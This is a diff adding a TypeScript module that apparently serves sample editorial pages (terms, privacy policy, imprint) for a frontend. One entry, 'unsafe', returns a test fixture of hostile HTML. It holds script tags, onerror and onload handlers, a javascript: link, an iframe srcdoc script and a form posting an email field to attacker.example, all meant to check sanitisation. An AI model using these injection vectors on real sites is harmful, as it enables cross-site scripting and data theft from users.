@@ -1,0 +1,59 @@
+import { isCountry } from "../../config/countries"
+import type { Language } from "../../config/languages"
+import type { ContentText, TranslatedText } from "./contentTypes"
+import { imprintTexts, invitationTexts } from "./editorialTexts"
+import { privacyTexts } from "./privacyTexts"
+import { termsTexts } from "./termsTexts"
+
+/** Documents that exist once for each country too, as `terms-at`. */
+const countryTexts: Record<string, TranslatedText> = { terms: termsTexts, privacy: privacyTexts }
+
+const editorialTexts: Record<string, TranslatedText> = { imprint: imprintTexts, invitations: invitationTexts }
+
+/** Ids of editorial pages and what they show, for the start page. */
+export const contentSamples: Record<string, string> = {
+  terms: "Terms and Conditions",
+  "terms-at": "Terms and Conditions for Austria",
+  privacy: "Privacy Policy",
+  "privacy-se": "Privacy Policy for Sweden",
+  imprint: "Imprint",
+  invitations: "An editorial page",
+  unsafe: "Hostile HTML: no script may run, no picture may call home",
+  "no-such-page": "Unknown to the backend",
+}
+
+/** HTML with every usual way to smuggle a script, around text that has to stay. */
+const unsafeHtml = `<p>This sentence stays.</p>
+<script>document.title = "unsafe"</script>
+<img src="x" alt="" onerror="document.title = 'unsafe'">
+<a href="javascript:document.title='unsafe'">a link</a>
+<svg onload="document.title = 'unsafe'"><desc>drawing</desc></svg>
+<iframe srcdoc="<script>parent.document.title = 'unsafe'</script>"></iframe>
+<form action="https://attacker.example/"><input name="email"><button>Send</button></form>
+<p style="position: fixed; inset: 0" onclick="document.title = 'unsafe'">This one too.</p>`
+
+function html({ intro, sections }: ContentText): string {
+  const parts = sections.map(([heading, paragraph]) => `<h2>${heading}</h2><p>${paragraph}</p>`)
+  return `<p>${intro}</p>${parts.join("")}`
+}
+
+/** The texts behind an id, with the country that the id names. */
+function find(id: string): { texts: TranslatedText; country: string } | null {
+  const [kind = "", iso] = id.split("-")
+  const country = iso?.toUpperCase() ?? ""
+  const perCountry = Object.hasOwn(countryTexts, kind) ? countryTexts[kind] : undefined
+  if (perCountry && (iso === undefined || isCountry(country))) return { texts: perCountry, country }
+  const texts = Object.hasOwn(editorialTexts, id) ? editorialTexts[id] : undefined
+  return texts ? { texts, country: "" } : null
+}
+
+/** The answer of contentPage: a page in the asked language; null when there is none. */
+export function contentPage(id: string, language: Language) {
+  const updatedAt = "2026-03-01T09:00:00Z"
+  if (id === "unsafe") return { id, title: "Unsafe", html: unsafeHtml, updatedAt }
+  const found = find(id)
+  if (!found) return null
+  const text = found.texts[language]
+  const title = found.country === "" ? text.title : `${text.title} (${found.country})`
+  return { id, title, html: html(text), updatedAt }
+}
